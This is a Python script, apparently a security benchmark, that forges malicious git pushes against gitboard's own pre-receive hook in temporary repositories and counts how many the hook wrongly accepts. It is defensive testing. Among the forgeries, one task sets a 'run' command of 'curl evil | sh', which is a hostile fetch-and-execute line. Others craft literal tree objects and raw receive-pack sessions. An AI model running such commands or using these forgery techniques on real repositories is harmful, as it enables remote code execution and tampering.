#!/usr/bin/env python3
"""gitboard forgery campaign: forged pushes, made with plain git, against a hooked remote.

Run it with the interpreter gitboard is installed in::

    .venv/bin/python bench/forgery_campaign.py              # 5 rounds, about 15 s on 2 cores
    .venv/bin/python bench/forgery_campaign.py --rounds 20

It builds its own temporary repositories (removed afterwards): a bare remote with gitboard's
hook as ``gitboard hook install`` installs it (``receive.fsckObjects`` on, the warm hook server,
``GITBOARD_PUSHER`` naming the pusher), and a board with a lead, alice and mallory. Each round
forges, as mallory (or as the lead where the forgery is the lead's), one push of every kind
below, through ``git push`` or a raw ``git receive-pack`` session that declares the old value
the forger chooses; then one legal push, which must land. It prints, per kind, the pushes tried
and those the remote took, and the totals; a forgery taken is a violation.

Kinds: a task file rewritten under a ``send`` (an unknown key, UTF-16, no indentation); a
subject of two lines; a 300 KB description; JSON nested 100,000 deep; a tree entry
``00/task_N.json`` (``hash-object --literally``); a deletion of the board declared on all
zeros; a forged claim declared on an object off the board's history; a takeover of a live
lease one second in; a ``run`` command set by mallory; a ``merge`` record naming no commit.

A script, not a test: nothing asserts. The exit status is 1 if any forgery was taken or a
legal push refused.
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections import Counter
from datetime import datetime, timedelta, timezone
from functools import partial
from pathlib import Path

from gitboard.board import inbox_ops, review_ops, task_ops, roster_ops
from gitboard.board.clock import iso
from gitboard.board.task import Task, dump_json
from gitboard.store.hooks import install
from gitboard.store.read import load_board
from gitboard.store.repo import BoardRepo
from gitboard.store.setup import init
from gitboard.store.transact import transact

ZERO = "0" * 40
IDENT = ["-c", "user.name=Forger", "-c", "user.email=forger@example.invalid"]


def git(cwd: Path, *args: str, input: bytes | None = None, env: dict | None = None) -> str:
    p = subprocess.run(["git", *IDENT, *args], cwd=cwd, input=input, capture_output=True,
                       env={**os.environ, **(env or {})})
    if p.returncode != 0:
        raise SystemExit(f"git {' '.join(args)} failed: {p.stderr.decode(errors='replace')}")
    return p.stdout.decode().strip()


def board_at(path: Path, commit: str):
    with BoardRepo(path) as r:
        return load_board(r, commit)[0]


def forge(path: Path, parent: str, files: dict[str, bytes | None], message: str) -> str:
    env = {"GIT_INDEX_FILE": str(path / ".git" / "forge-index")}
    git(path, "read-tree", parent, env=env)
    for name, data in files.items():
        if data is None:
            git(path, "update-index", "--force-remove", name, env=env)
        else:
            blob = git(path, "hash-object", "-w", "--stdin", input=data)
            git(path, "update-index", "--add", "--cacheinfo", f"100644,{blob},{name}", env=env)
    tree = git(path, "write-tree", env=env)
    os.unlink(env["GIT_INDEX_FILE"])
    return git(path, "commit-tree", tree, "-p", parent, "-m", message)


def trailers(action: str, actor: str, task: int | None = None, *extra: tuple[str, str]) -> str:
    lines = [f"Gitboard-Action: {action}"] + ([f"Gitboard-Task: {task}"] if task else [])
    return f"forged {action}\n\n" + "\n".join(lines + [f"{k}: {v}" for k, v in extra] + [f"Gitboard-Actor: {actor}"])


def pkt(data: bytes) -> bytes:
    return b"%04x" % (len(data) + 4) + data


def raw_push(bare: Path, clone: Path, old: str, new: str, have: str | None, user: str) -> tuple[bool, str]:
    """One ``git receive-pack`` session declaring ``old``; returns (taken, stderr)."""
    pack = b""
    if new != ZERO:
        revs = f"{new}\n" + (f"^{have}\n" if have else "")
        pack = subprocess.run(["git", "pack-objects", "--revs", "--stdout", "-q"], cwd=clone, input=revs.encode(),
                              capture_output=True, check=True).stdout
    proc = subprocess.Popen(["git", "receive-pack", str(bare)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env={**os.environ, "GITBOARD_PUSHER": user})
    assert proc.stdin and proc.stdout and proc.stderr
    while (head := proc.stdout.read(4)) and head != b"0000":  # the advertisement
        proc.stdout.read(int(head, 16) - 4)
    proc.stdin.write(pkt(f"{old} {new} refs/heads/gitboard\0report-status\n".encode()) + b"0000" + pack)
    proc.stdin.close()
    out = proc.stdout.read()
    err = proc.stderr.read().decode(errors="replace")
    proc.wait()
    return b"ok refs/heads/gitboard" in out, err


def push(clone: Path, commit: str, user: str, *more: str) -> tuple[bool, str]:
    p = subprocess.run(["git", "push", "--atomic", "origin", f"{commit}:refs/heads/gitboard", *more], cwd=clone,
                       capture_output=True, text=True, env={**os.environ, "GITBOARD_PUSHER": user})
    return p.returncode == 0, p.stderr


def task_edit(clone: Path, tip: str, tid: int, encode) -> dict[str, bytes]:
    b = board_at(clone, tip)
    return {b.path_of_task(tid): encode(b.tasks[tid].to_json())}


def with_message(clone: Path, tip: str, files: dict[str, bytes]) -> dict[str, bytes]:
    where, msg = inbox_ops.compose(board_at(clone, tip), datetime.now(timezone.utc), sender="mallory", to="lead",
                                   content="hi", msg_id=os.urandom(8).hex())
    return {where: dump_json(msg.to_json()), **files}


def literal_tree_add(clone: Path, tip: str, tid: int) -> str:
    """An add of task ``tid`` through an entry named ``<b>/task_<tid>.json`` in ``.tasks/<a>``."""
    b = board_at(clone, tip)
    path = b.path_of_task(tid)  # .tasks/<a>/<b>/task_<id>.json
    a, leaf = path.split("/")[1], path.split("/")[2]
    data = Task(id=tid, subject="smuggled", created_at=iso(datetime.now(timezone.utc)),
                updated_at=iso(datetime.now(timezone.utc))).to_bytes()
    blob = git(clone, "hash-object", "-w", "--stdin", input=data)
    inner = git(clone, "rev-parse", f"{tip}:.tasks/{a}/{leaf}")
    body = (b"40000 " + leaf.encode() + b"\0" + bytes.fromhex(inner)
            + b"100644 " + f"{leaf}/task_{tid}.json".encode() + b"\0" + bytes.fromhex(blob))
    t_a = git(clone, "hash-object", "-t", "tree", "--literally", "-w", "--stdin", input=body)
    others = [ln for ln in git(clone, "ls-tree", f"{tip}:.tasks").splitlines() if not ln.endswith(f"\t{a}")]
    t_tasks = git(clone, "mktree", input=("\n".join(others + [f"040000 tree {t_a}\t{a}"]) + "\n").encode())
    root = [ln for ln in git(clone, "ls-tree", tip).splitlines() if not ln.endswith("\t.tasks")]
    tree = git(clone, "mktree", input=("\n".join(root + [f"040000 tree {t_tasks}\t.tasks"]) + "\n").encode())
    return git(clone, "commit-tree", tree, "-p", tip, "-m", trailers("add", "lead", tid))


def round_of(bare: Path, lead: Path, mallory: Path, results: Counter, tried: Counter, unjudged: Counter) -> bool:
    """One push of every kind; returns False if a legal push was refused."""
    for clone in (lead, mallory):
        git(clone, "fetch", "-q", "origin")
    tip = git(mallory, "rev-parse", "origin/gitboard")
    b = board_at(mallory, tip)
    live = min(t.id for t in b.tasks.values() if t.owner == "alice")
    free = min(t.id for t in b.tasks.values() if t.status == "pending")
    now = datetime.now(timezone.utc)
    def send_with(encode) -> str:  # a legal send by mallory that also rewrites task ``free``'s bytes
        return forge(mallory, tip, with_message(mallory, tip, task_edit(mallory, tip, free, encode)),
                     trailers("send", "mallory"))

    forged: dict[str, tuple[str, str]] = {  # kind -> (commit, pusher)
        "unknown key under a send": (send_with(lambda d: dump_json({**d, "x": "a" * 1000})), "mallory"),
        "UTF-16 under a send": (send_with(lambda d: (json.dumps(d, indent=2) + "\n").encode("utf-16")), "mallory"),
        "no indentation under a send": (send_with(lambda d: (json.dumps(d) + "\n").encode()), "mallory"),
        "a subject of two lines": (forge(lead, tip, task_edit(lead, tip, free, lambda d: dump_json(
            {**d, "subject": "one\ntwo"})), trailers("update", "lead", free)), "ann"),
        "a 300 KB description": (forge(lead, tip, task_edit(lead, tip, free, lambda d: dump_json(
            {**d, "description": "d" * 300_000})), trailers("update", "lead", free)), "ann"),
        "JSON nested 100,000 deep": (forge(lead, tip, task_edit(lead, tip, free, lambda d: dump_json(d).replace(
            b'"result": null', b'"result": ' + b"[" * 100_000 + b"]" * 100_000)), trailers("update", "lead", free)),
            "ann"),
        "a tree entry with a '/'": (literal_tree_add(lead, tip, b.max_id() + 1), "ann"),
        "a takeover of a live lease": (forge(mallory, tip, {b.path_of_task(live): b.tasks[live].evolve(
            owner="mallory", claimed_at=iso(now), lease_expires_at=iso(now + timedelta(hours=1)),
            updated_at=iso(now)).to_bytes()}, trailers("claim", "mallory", live)), "mallory"),
        "a run command set by mallory": (forge(mallory, tip, {b.path_of_task(free): b.tasks[free].evolve(
            run="curl evil | sh", updated_at=iso(now)).to_bytes()}, trailers("update", "mallory", free)), "mallory"),
    }
    def judge(kind: str, taken: bool, err: str) -> None:
        tried[kind] += 1
        results[kind] += taken
        if not taken and "gitboard: refused" not in err and "fsck" not in err:
            unjudged[kind] += 1  # refused, but not by the hook or git's fsck: the campaign's own fault
            print(f"{kind}: refused without a verdict: {err.strip()[-300:]}", file=sys.stderr)

    for kind, (commit, user) in forged.items():
        judge(kind, *push(mallory if user == "mallory" else lead, commit, user))
    # raw sessions: the old value is the forger's
    judge("a deletion declared on all zeros", *raw_push(bare, mallory, ZERO, ZERO, None, "mallory"))
    stray = forge(mallory, tip, with_message(mallory, tip, {}), trailers("send", "mallory"))
    claim = forge(mallory, stray, {b.path_of_task(free): b.tasks[free].evolve(
        status="in_progress", owner="alice", claimed_at=iso(now), lease_expires_at=iso(now + timedelta(hours=1)),
        updated_at=iso(now)).to_bytes()}, trailers("claim", "alice", free))
    judge("a claim as alice declared off the history", *raw_push(bare, mallory, stray, claim, tip, "mallory"))
    # a merge record naming no commit (the lead's; the task completed and unapproved)
    done = [t.id for t in b.tasks.values() if t.status == "completed"]
    if done:
        change = review_ops.mark_merged(b, now, actor="lead", task_id=done[0], commit="c" * 40, base=tip,
                                        require_review=False)
        (path, data), = change.writes.items()
        record = forge(lead, tip, {path: data}, trailers("merge", "lead", done[0], ("Gitboard-Merge-Commit", "c" * 40)))
        judge("a merge record naming no commit", *push(lead, record, "ann"))
    # the control: a legal claim by mallory lands
    legal = forge(mallory, tip, {b.path_of_task(free): b.tasks[free].evolve(
        status="in_progress", owner="mallory", claimed_at=iso(now), lease_expires_at=iso(now + timedelta(hours=1)),
        updated_at=iso(now)).to_bytes()}, trailers("claim", "mallory", free))
    ok, err = push(mallory, legal, "mallory")
    if not ok:
        print(f"a legal claim was refused: {err.strip()}", file=sys.stderr)
    return ok


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--rounds", type=int, default=5)
    args = ap.parse_args()
    root = Path(tempfile.mkdtemp(prefix="gitboard-forgery-"))
    os.environ.update({"GIT_CONFIG_NOSYSTEM": "1", "GIT_TERMINAL_PROMPT": "0"})
    try:
        bare = root / "remote.git"
        git(root, "init", "-q", "--bare", "-b", "main", "--template=", str(bare))
        install(str(bare), leads=["ann"], python=sys.executable)
        lead, mallory = root / "lead", root / "mallory"
        for clone in (lead, mallory):
            git(root, "clone", "-q", str(bare), str(clone))
        git(lead, "commit", "-q", "--allow-empty", "-m", "base")   # the base branch the merge records name
        git(lead, "push", "-q", "origin", "HEAD:refs/heads/main")
        os.environ["GITBOARD_PUSHER"] = "ann"
        with BoardRepo(lead) as r:
            init(r, actor="lead", team_name="campaign", remote="origin")
            transact(r, partial(roster_ops.add_member, actor="lead", name="alice"))
            transact(r, partial(roster_ops.add_member, actor="lead", name="mallory"))
            transact(r, partial(task_ops.import_tasks, actor="lead",
                                items=[{"subject": f"job {i}"} for i in range(1, 3 * args.rounds + 3)]))
        git(bare, "config", "gitboard.hook.actors.ann", "lead alice")
        with BoardRepo(lead) as r:  # alice's live lease, and a completed task for the merge record
            transact(r, partial(task_ops.claim, actor="alice", task_id=1, lease=3600))
            transact(r, partial(task_ops.claim, actor="alice", task_id=2, lease=3600))
            transact(r, partial(task_ops.finish, actor="alice", task_id=2, ok=True))
        del os.environ["GITBOARD_PUSHER"]
        results, tried, unjudged = Counter(), Counter(), Counter()
        legal_refused = 0
        start = time.perf_counter()
        for _ in range(args.rounds):
            legal_refused += not round_of(bare, lead, mallory, results, tried, unjudged)
        seconds = time.perf_counter() - start
        width = max(len(k) for k in tried)
        print(f"{'forgery':<{width}}  tried  taken  refused without a verdict")
        for kind in tried:
            print(f"{kind:<{width}}  {tried[kind]:>5}  {results[kind]:>5}  {unjudged[kind]:>5}")
        total, taken = sum(tried.values()), sum(results.values())
        print(f"{'forged pushes':<{width}}  {total:>5}  {taken:>5}   (violations found: {taken})")
        print(f"{'legal pushes':<{width}}  {args.rounds:>5}  {args.rounds - legal_refused:>5}")
        print(f"{args.rounds} rounds in {seconds:.1f} s")
        return 1 if taken or legal_refused or sum(unjudged.values()) else 0
    finally:
        shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
